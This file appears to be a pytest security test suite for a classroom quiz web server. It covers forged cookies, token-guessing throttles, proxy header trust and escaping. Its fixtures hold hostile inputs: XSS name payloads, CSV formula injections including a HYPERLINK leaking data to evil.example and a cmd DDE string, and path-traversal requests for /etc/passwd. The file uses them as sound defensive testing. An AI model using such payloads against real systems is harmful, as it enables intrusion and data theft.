"""No one gets in: cookies, tokens, names, CSV cells, static paths, headers, and proxies.

All against the real server (Hypercorn on an ephemeral port, real SQLite). Cookies are
crafted with the server's own `Signer` and secret where a test needs a validly signed
cookie that must still be refused (expired, from the future, for another session).
"""
from __future__ import annotations

import base64
import csv
import io
import json
import logging
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import h11
import httpx
import pytest
import trio

from server import throttle
from server.auth import (
    INSTRUCTOR_COOKIE,
    STUDENT_COOKIE,
    STUDENT_COOKIE_MAX_AGE_S,
    Signer,
)
from server.quiz.pool import Pool
from server.web.proxy import TrustedProxyMiddleware
from server.serve import RunningServer
from tests.helpers import REPO, WAIT_S, ControlClient, WebSocketClient, join_all, offline_export, running_server


def signer_of(running: RunningServer) -> Signer:
    return Signer((running.settings.data_dir / "secret.key").read_text().strip())


async def me_status(base_url: str, cookie_value: str) -> httpx.Response:
    async with httpx.AsyncClient(base_url=base_url, timeout=WAIT_S) as http:
        return await http.get("/me", headers={"Cookie": f"{STUDENT_COOKIE}={cookie_value}"})


async def ws_close_code(base_url: str, path: str, cookie: str | None) -> int | None:
    ws = await WebSocketClient.open(base_url, path, cookie=cookie)
    return await ws.wait_closed()


async def raw_http(base_url: str, request: bytes) -> tuple[int, dict[str, str], bytes]:
    """Send `request` byte for byte (no client-side path normalisation); parse the response."""
    url = urlparse(base_url)
    parser = h11.Connection(h11.CLIENT)
    parser.send(h11.Request(method="GET", target="/", headers=[("Host", "x")]))  # puts h11 in the right state
    parser.send(h11.EndOfMessage())
    status, headers, body = 0, {}, b""
    with trio.fail_after(WAIT_S):
        stream = await trio.open_tcp_stream(url.hostname, url.port)
        await stream.send_all(request)
        while True:
            event = parser.next_event()
            if event is h11.NEED_DATA:
                parser.receive_data(await stream.receive_some(65536))
            elif isinstance(event, h11.Response):
                status = event.status_code
                headers = {k.decode().lower(): v.decode("latin-1") for k, v in event.headers}
            elif isinstance(event, h11.Data):
                body += event.data
            elif isinstance(event, (h11.EndOfMessage, h11.ConnectionClosed)):
                break
    await stream.aclose()
    return status, headers, body


# ---------------------------------------------------------------- student cookies


async def test_expired_future_foreign_and_malformed_student_cookies_are_refused(server: RunningServer) -> None:
    signer = signer_of(server)
    cookies = await join_all(server.url, ["s1", "s2"])
    room = server.room
    s1 = room.participants["s1"]
    now = room.clock.now_ms()

    def cookie(**fields: Any) -> str:
        payload = {"sid": room.record.sid, "student_id": "s1", "cookie_id": s1.cookie_id, "iat": now, **fields}
        return signer.sign({k: v for k, v in payload.items() if v is not None})

    # A cookie made here the way the server makes it is accepted (so the refusals below are real).
    assert (await me_status(server.url, cookie())).status_code == 200
    assert (await me_status(server.url, cookie(iat=now - STUDENT_COOKIE_MAX_AGE_S * 1000 + 60_000))).status_code == 200
    refused = {
        "expired": cookie(iat=now - STUDENT_COOKIE_MAX_AGE_S * 1000 - 1000),
        "issued in the future": cookie(iat=now + 5 * 60_000),
        "iat as text": cookie(iat=str(now)),
        "iat as float": cookie(iat=now + 0.5),
        "another session": cookie(sid="another-session"),
        "another student's cookie_id": cookie(cookie_id=room.participants["s2"].cookie_id),
        "no cookie_id": cookie(cookie_id=None),
        "student_id as list": cookie(student_id=["s1"]),
        "payload not an object": signer.sign(["s1"]),  # type: ignore[arg-type]
        "instructor cookie as student": signer.instructor_cookie(server.admin_token, now),
        "signature stripped": cookie().rpartition(".")[0] + ".",
        "over 2 KiB": cookie(pad="x" * 3000),
    }
    for what, value in refused.items():
        response = await me_status(server.url, value)
        assert response.status_code == 401 and response.json()["error"] == "not_joined", what
        assert "Max-Age=0" in response.headers["set-cookie"], what  # and the browser is told to drop it
        async with httpx.AsyncClient(base_url=server.url) as http:
            event = await http.post("/event", json={"kind": "blur"}, headers={"Cookie": f"{STUDENT_COOKIE}={value}"})
        assert event.status_code == 401, what
    for what in ("expired", "another session", "another student's cookie_id"):
        assert await ws_close_code(server.url, "/ws/student", f"{STUDENT_COOKIE}={refused[what]}") == 4001, what
    assert room.participants["s1"].blur_count == 0
    assert (await me_status(server.url, cookies["s1"].split("=", 1)[1])).status_code == 200


async def test_cookies_replayed_after_a_reset_are_dead(server: RunningServer) -> None:
    cookies = await join_all(server.url, ["s1"])
    old = cookies["s1"]
    auth = {"Authorization": f"Bearer {server.admin_token}"}
    async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
        ws = await WebSocketClient.open(server.url, "/ws/student", cookie=old)
        assert await ws.expect("state")
        assert (await http.post("/admin/reset", json={"confirm": True}, headers=auth)).status_code == 200
        assert await ws.expect("session_reset")
        assert await ws.receive() is None and ws.close_code == 4002
        assert (await http.get("/me", headers={"Cookie": old})).status_code == 401
        assert await ws_close_code(server.url, "/ws/student", old) == 4001
        # The same student id joins again; the replayed cookie still speaks for no one.
        fresh = await join_all(server.url, ["s1"])
        assert (await http.get("/me", headers={"Cookie": fresh["s1"]})).status_code == 200
        assert (await http.get("/me", headers={"Cookie": old})).status_code == 401
        assert await ws_close_code(server.url, "/ws/student", old) == 4001


# ---------------------------------------------------------------- instructor credentials


async def test_instructor_cookie_forged_tampered_or_expired_is_refused(
    server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    signer = signer_of(server)
    now = server.room.clock.now_ms()
    async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
        page = await http.get("/instructor", params={"token": server.admin_token})
        assert page.status_code == 200
        genuine = page.cookies[INSTRUCTOR_COOKIE]
    body, _, mac = genuine.rpartition(".")
    payload = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    refused = {
        "other key": Signer("not the server's secret").instructor_cookie(server.admin_token, now),
        "token of another server": signer.instructor_cookie("a-different-token", now),
        "expired": signer.instructor_cookie(server.admin_token, now - 13 * 3600 * 1000),
        "role changed, old mac": signer.sign({**payload, "role": "student"}).rpartition(".")[0] + "." + mac,
        "tampered body": body[:-3] + "AAA." + mac,
        "student cookie": signer.sign({"sid": "tiny", "student_id": "s", "cookie_id": "c", "iat": now}),
    }
    monkeypatch.setattr(throttle.FailureThrottle, "BASE_DELAY_S", 0.0)  # this test is about the verdicts
    for what, value in refused.items():
        jar = {INSTRUCTOR_COOKIE: value}
        async with httpx.AsyncClient(base_url=server.url, cookies=jar, timeout=WAIT_S) as http:
            assert (await http.get("/export.csv")).status_code == 401, what
            assert (await http.post("/admin/next")).status_code == 401, what
            assert (await http.get("/instructor")).status_code == 401, what
        code = await ws_close_code(server.url, "/ws/instructor", f"{INSTRUCTOR_COOKIE}={value}")
        assert code == 4001, what
    assert server.room.state.value == "lobby"
    async with httpx.AsyncClient(base_url=server.url, cookies={INSTRUCTOR_COOKIE: genuine}) as http:
        assert (await http.get("/export.csv")).status_code == 200


async def test_token_guessing_is_slowed_and_logged_on_every_instructor_route(
    server: RunningServer, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(throttle.FailureThrottle, "BASE_DELAY_S", 0.01)  # 0.02, 0.04, 0.08 ... s
    caplog.set_level(logging.WARNING)
    guesses = [
        ("GET", "/export.csv", {"Authorization": "Bearer guess-1"}),
        ("POST", "/admin/next", {"Authorization": "Bearer guess-2"}),
        ("GET", "/instructor?token=guess-3", {}),
        ("POST", "/admin/reset", {"Authorization": "Bearer " + server.admin_token[:-1]}),
        ("GET", "/export.csv?token=" + server.admin_token.upper(), {}),
    ]
    times = []
    async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
        for method, path, headers in guesses:
            started = time.monotonic()
            response = await http.request(method, path, headers=headers)
            times.append(time.monotonic() - started)
            assert response.status_code == 401
        started = time.monotonic()
        assert await ws_close_code(server.url, "/ws/instructor?token=guess-6", None) == 4001
        times.append(time.monotonic() - started)
        # Each failure waits about twice as long as the one before.
        for n, elapsed in enumerate(times, start=1):
            assert elapsed >= 0.01 * 2**n * 0.9, (n, times)
        assert times == sorted(times), times
        # The real token is not slowed by the guesses before it.
        started = time.monotonic()
        assert (await http.post("/admin/status", headers={"Authorization": f"Bearer {server.admin_token}"})).status_code == 200
        assert time.monotonic() - started < 0.5
    assert server.room.state.value == "lobby"
    assert len(re.findall(r"wrong instructor token from 127\.0\.0\.1", caplog.text)) == len(guesses) + 1


async def test_parallel_guesses_from_one_source_are_answered_one_after_another(
    server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Opening many connections at once does not buy more guesses per second."""
    monkeypatch.setattr(throttle.FailureThrottle, "BASE_DELAY_S", 0.005)  # 0.01, 0.02, ... 0.32 s
    parallel = 6
    penalties = sum(0.005 * 2**n for n in range(1, parallel + 1))

    async def guess_http(n: int) -> None:
        async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
            assert (await http.post("/admin/next", headers={"Authorization": f"Bearer guess-{n}"})).status_code == 401

    started = time.monotonic()
    async with trio.open_nursery() as nursery:
        for n in range(parallel):
            nursery.start_soon(guess_http, n)
    assert time.monotonic() - started >= penalties * 0.9

    async def guess_control(n: int) -> None:
        async with await ControlClient.open(server) as client:
            reply = await client.request(f"guess-{n}", "next")
        assert reply["error"]["code"] == "unauthorized"

    started = time.monotonic()
    async with trio.open_nursery() as nursery:
        for n in range(parallel):
            nursery.start_soon(guess_control, n)
    assert time.monotonic() - started >= penalties * 0.9
    assert server.room.state.value == "lobby"


# ---------------------------------------------------------------- what students type


HOSTILE_NAMES = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(document.cookie)>',
    "{{7*7}} ${7*7} </textarea>",
]


async def test_html_in_names_comes_back_as_literal_text(server: RunningServer) -> None:
    cookies = {}
    async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
        for i, name in enumerate(HOSTILE_NAMES):
            response = await http.post("/join", json={"student_id": f"x{i}", "name": name})
            assert response.status_code == 200 and response.json()["name"] == name
            assert response.headers["content-type"].startswith("application/json")
            assert response.headers["x-content-type-options"] == "nosniff"
            cookies[i] = f"{STUDENT_COOKIE}={response.cookies[STUDENT_COOKIE]}"
            http.cookies.clear()
            me = await http.get("/me", headers={"Cookie": cookies[i]})
            assert me.json()["name"] == name
    ws = await WebSocketClient.open(server.url, "/ws/student", cookie=cookies[0])
    await server.room.next()
    await ws.send_json({"type": "submit", "question_idx": 0, "answer": "B"})
    assert await ws.expect("submit_ack")
    await server.room.close_question()
    reveal = await ws.expect("question_closed")
    assert reveal is not None and {row["name"] for row in reveal["top5"]} == set(HOSTILE_NAMES)
    projector = await WebSocketClient.open(server.url, "/ws/projector")
    state = await projector.expect("projector_state")
    assert state is not None and {row["name"] for row in state["leaderboard"]} == set(HOSTILE_NAMES)
    await ws.close()
    await projector.close()
    # The pages only ever put text into the DOM (the browser test shows it rendered as text).
    for script in (REPO / "static").glob("*.js"):
        source = script.read_text()
        for sink in (r"\.innerHTML\s*=", r"\.outerHTML\s*=", r"insertAdjacentHTML\(", r"document\.write", r"\beval\(", r"new Function\("):
            assert not re.search(sink, source), f"{script.name} uses {sink}"


FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "  =1+1",  # leading blanks are folded away by the name rules; the = must still be defused
    'Ann "quoted", with comma',
]


async def test_csv_export_neutralises_formulas_and_quotes_cells(tmp_path: Path, tiny_pool: Pool) -> None:
    data_dir = tmp_path / "data"
    async with running_server(data_dir, tiny_pool) as server:
        async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
            for i, name in enumerate(FORMULA_NAMES):
                assert (await http.post("/join", json={"student_id": f"f{i}", "name": name})).status_code == 200
                http.cookies.clear()
            auth = {"Authorization": f"Bearer {server.admin_token}"}
            await server.room.next()
            await server.room.close_question()
            online = {
                layout: (await http.get("/export.csv", params={"format": layout}, headers=auth)).text
                for layout in ("wide", "long")
            }
    offline = await offline_export(data_dir)
    assert offline == online["wide"]
    for layout, text in online.items():
        rows = list(csv.reader(io.StringIO(text, newline="")))
        names = {row[0]: row[1] for row in rows[1:]}
        for i, name in enumerate(FORMULA_NAMES):
            folded = " ".join(name.split())
            expected = "'" + folded if folded[0] in "=+-@" else folded
            assert names[f"f{i}"] == expected, layout
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (layout, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-?\d+(\.\d+)?", cell), (layout, cell)
        assert text.endswith("\r\n") and "\r\n" in text.split("\r\n", 1)[0] + "\r\n"


# ---------------------------------------------------------------- static files


TRAVERSALS = [
    "/static/../server/room.py",
    "/static/%2e%2e/server/room.py",
    "/static/%2E%2E/pyproject.toml",
    "/static/..%2fpyproject.toml",
    "/static/..%2Fserver%2Froom.py",
    "/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/static/..%5cpyproject.toml",
    "/static/%252e%252e/pyproject.toml",
    "/static/....//pyproject.toml",
    "/static/.%2e/pyproject.toml",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/student.js%00.html",
    "/static/..;/pyproject.toml",
    "/../pyproject.toml",
    "/static/../../../../../../etc/passwd",
]


async def test_path_traversal_on_static_routes_is_404(server: RunningServer) -> None:
    status, _, body = await raw_http(server.url, b"GET /static/common.js HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert status == 200 and b"textContent" in body  # the route itself serves files
    secrets = [b"class Room", b"[project]", b"root:x:0:0"]
    for path in TRAVERSALS:
        request = f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
        status, headers, body = await raw_http(server.url, request)
        if status == 308:  # "//" is merged by a redirect that stays inside /static/
            location = urlparse(headers["location"]).path
            assert location.startswith("/static/") and ".." not in location, (path, location)
            request = f"GET {location} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
            status, headers, body = await raw_http(server.url, request)
        assert status in (400, 404), (path, status)
        assert not any(secret in body for secret in secrets), path
        if status == 404:
            assert json.loads(body)["error"] == "not_found" and "content-security-policy" in headers


# ---------------------------------------------------------------- headers and cookies


def assert_security_headers(headers: httpx.Headers | dict[str, str], what: str) -> None:
    csp = headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "object-src 'none'" in csp, what
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, what
    assert headers.get("x-content-type-options") == "nosniff", what
    assert headers.get("referrer-policy") in ("no-referrer", "same-origin", "strict-origin-when-cross-origin"), what
    assert headers.get("x-frame-options") == "DENY", what


async def test_security_headers_on_every_page_and_error(server: RunningServer) -> None:
    cookies = await join_all(server.url, ["s1"])
    token = server.admin_token
    requests: list[tuple[str, str, dict[str, Any]]] = [
        ("GET", "/", {}),
        ("GET", "/projector", {}),
        ("GET", f"/instructor?token={token}", {}),
        ("GET", "/instructor", {}),  # 401 page
        ("GET", "/static/student.js", {}),
        ("GET", "/static/style.css", {}),
        ("GET", "/healthz", {}),
        ("GET", "/me", {"headers": {"Cookie": cookies["s1"]}}),
        ("GET", "/me", {}),  # 401
        ("POST", "/join", {"content": b"{bad"}),  # 400
        ("POST", "/join", {"json": {"student_id": "s1", "name": "Again"}}),  # 409
        ("POST", "/join", {"content": b"x" * 100_000}),  # 413
        ("GET", "/join", {}),  # 405
        ("GET", "/no/such/page", {}),  # 404
        ("GET", "/ws/student", {}),  # not a websocket upgrade
        ("POST", "/event", {"json": {"kind": "blur"}, "headers": {"Cookie": cookies["s1"]}}),  # 204
        ("GET", "/export.csv", {"headers": {"Authorization": f"Bearer {token}"}}),
        ("GET", "/export.csv", {}),  # 401
        ("POST", "/admin/status", {"headers": {"Authorization": f"Bearer {token}"}}),
    ]
    seen = set()
    async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
        for method, path, options in requests:
            response = await http.request(method, path, **options)
            seen.add(response.status_code)
            assert_security_headers(response.headers, f"{method} {path} -> {response.status_code}")
            http.cookies.clear()
    assert {200, 204, 400, 401, 404, 405, 409, 413} <= seen
    for path in ("/", "/projector", "/instructor"):
        async with httpx.AsyncClient(base_url=server.url) as http:
            response = await http.get(path)
        assert "text/html" in response.headers["content-type"]


def cookie_attributes(response: httpx.Response, name: str) -> dict[str, str]:
    """The attributes of the Set-Cookie for `name`, lower-cased: {"httponly": "", "samesite": "lax", ...}."""
    for header in response.headers.get_list("set-cookie"):
        if header.startswith(name + "="):
            attributes = {}
            for part in header.split(";")[1:]:
                key, _, value = part.strip().partition("=")
                attributes[key.lower()] = value.lower()
            return attributes
    raise AssertionError(f"no {name} cookie in {response.headers.get_list('set-cookie')}")


@pytest.mark.parametrize("public_url", [None, "https://quiz.example.org"], ids=["http", "https"])
async def test_cookies_are_httponly_lax_and_secure_behind_https(
    tmp_path: Path, tiny_pool: Pool, public_url: str | None
) -> None:
    async with running_server(tmp_path / "data", tiny_pool, public_url=public_url) as server:
        async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
            joined = await http.post("/join", json={"student_id": "s1", "name": "Ann"})
            instructor = await http.get("/instructor", params={"token": server.admin_token})
            http.cookies.clear()
            cleared = await http.get("/me", headers={"Cookie": f"{STUDENT_COOKIE}=forged"})
    for response, name in ((joined, STUDENT_COOKIE), (instructor, INSTRUCTOR_COOKIE)):
        attributes = cookie_attributes(response, name)
        assert "httponly" in attributes and attributes.get("samesite") == "lax" and attributes.get("path") == "/", name
        assert ("secure" in attributes) == (public_url is not None), (name, attributes)
        assert int(attributes["max-age"]) <= 12 * 3600
    clearing = cookie_attributes(cleared, STUDENT_COOKIE)
    assert "httponly" in clearing and clearing.get("samesite") == "lax" and clearing.get("max-age") == "0"


# ---------------------------------------------------------------- behind a reverse proxy


async def echo_scope(scope: dict, receive: Any, send: Any) -> None:
    """A tiny ASGI app that reports the client and scheme it was given."""
    scope_seen.append({"client": scope.get("client"), "scheme": scope.get("scheme")})


scope_seen: list[dict[str, Any]] = []


@pytest.mark.parametrize(
    ("allow", "peer", "forwarded_for", "proto", "client", "scheme"),
    [
        ("127.0.0.1", "127.0.0.1", ["203.0.113.9"], ["https"], "203.0.113.9", "https"),
        ("127.0.0.1", "127.0.0.1", [], [], "127.0.0.1", "http"),
        # A student's own X-Forwarded-For is ignored: only what the proxy appended counts.
        ("127.0.0.1", "127.0.0.1", ["6.6.6.6, 203.0.113.9"], ["http"], "203.0.113.9", "http"),
        ("127.0.0.1", "127.0.0.1", ["6.6.6.6", "203.0.113.9"], [], "203.0.113.9", "http"),
        # Two proxies of ours in a row: walk past both.
        ("127.0.0.1, 10.0.0.0/8", "127.0.0.1", ["6.6.6.6, 203.0.113.9, 10.1.2.3"], ["https"], "203.0.113.9", "https"),
        ("10.0.0.0/8", "10.0.0.5", ["[2001:db8::7]:4711"], ["HTTPS"], "2001:db8::7", "https"),
        ("127.0.0.1", "127.0.0.1", ["203.0.113.9:5555"], ["ftp"], "203.0.113.9", "http"),
        # Not an address: keep the peer rather than believe it.
        ("127.0.0.1", "127.0.0.1", ["<script>"], [], "127.0.0.1", "http"),
        ("127.0.0.1", "127.0.0.1", ["unknown, 203.0.113.9"], [], "203.0.113.9", "http"),
        # From a peer that is not one of our proxies the headers mean nothing.
        ("10.0.0.1", "127.0.0.1", ["203.0.113.9"], ["https"], "127.0.0.1", "http"),
        ("*", "192.0.2.1", ["203.0.113.9, 10.0.0.1"], ["https"], "203.0.113.9", "https"),
    ],
)
async def test_proxy_middleware_takes_address_and_scheme_only_from_trusted_proxies(
    allow: str, peer: str, forwarded_for: list[str], proto: list[str], client: str, scheme: str
) -> None:
    middleware = TrustedProxyMiddleware(echo_scope, allow)
    headers = [(b"x-forwarded-for", v.encode()) for v in forwarded_for] + [(b"x-forwarded-proto", v.encode()) for v in proto]
    for kind, plain, secure in (("http", "http", "https"), ("websocket", "ws", "wss")):
        scope_seen.clear()
        await middleware({"type": kind, "client": (peer, 50000), "scheme": plain, "headers": headers}, None, None)
        expected_scheme = {"http": plain, "https": secure}[scheme]
        assert scope_seen == [{"client": (client, 0 if client != peer else 50000), "scheme": expected_scheme}]


def test_proxy_middleware_refuses_a_bad_allow_list() -> None:
    with pytest.raises(ValueError, match="not an IP address"):
        TrustedProxyMiddleware(echo_scope, "127.0.0.1, proxy.example.org")


async def test_behind_a_trusted_proxy_the_forwarded_client_address_is_used(
    tmp_path: Path, tiny_pool: Pool, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(throttle.FailureThrottle, "BASE_DELAY_S", 0.0)
    caplog.set_level(logging.WARNING)
    async with running_server(
        tmp_path / "data", tiny_pool, forwarded_allow_ips="127.0.0.1", max_connections_per_ip=1
    ) as server:
        via = lambda address: {"X-Forwarded-For": f"6.6.6.6, {address}", "X-Forwarded-Proto": "https"}  # noqa: E731
        async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
            joined = await http.post("/join", json={"student_id": "s1", "name": "Ann"}, headers=via("198.51.100.1"))
            http.cookies.clear()
            again = await http.post("/join", json={"student_id": "s1", "name": "Mallory"}, headers=via("198.51.100.66"))
            assert (joined.status_code, again.status_code) == (200, 409)
            assert (await http.get("/export.csv", headers={**via("198.51.100.99"), "Authorization": "Bearer x"})).status_code == 401
        detail = json.loads(server.room.record.duplicate_joins["s1"].latest_detail)
        assert detail["from"].startswith("198.51.100.66 ")
        assert "wrong instructor token from 198.51.100.99" in caplog.text
        # The per-address websocket limit applies to the forwarded addresses.
        cookie = f"{STUDENT_COOKIE}={joined.cookies[STUDENT_COOKIE]}"
        first = await WebSocketClient.open(server.url, "/ws/student", cookie=cookie, headers=list_headers(via("198.51.100.1")))
        other = await WebSocketClient.open(server.url, "/ws/student", cookie=cookie, headers=list_headers(via("198.51.100.2")))
        for ws in (first, other):
            assert await ws.expect("state")
        same = await WebSocketClient.open(server.url, "/ws/student", cookie=cookie, headers=list_headers(via("198.51.100.1")))
        assert await same.receive() is None and same.close_code == 1008
        for ws in (first, other, same):
            await ws.close()

    # Without --forwarded-allow-ips (or from an untrusted peer) the headers change nothing.
    for allow in (None, "10.0.0.1"):
        async with running_server(tmp_path / f"data-{allow}", tiny_pool, forwarded_allow_ips=allow) as server:
            async with httpx.AsyncClient(base_url=server.url, timeout=WAIT_S) as http:
                await http.post("/join", json={"student_id": "s1", "name": "Ann"})
                http.cookies.clear()
                await http.post("/join", json={"student_id": "s1", "name": "Eve"}, headers={"X-Forwarded-For": "198.51.100.7"})
            detail = json.loads(server.room.record.duplicate_joins["s1"].latest_detail)
            assert detail["from"].startswith("127.0.0.1 "), allow


def list_headers(headers: dict[str, str]) -> list[tuple[bytes, bytes]]:
    return [(k.lower().encode(), v.encode()) for k, v in headers.items()]
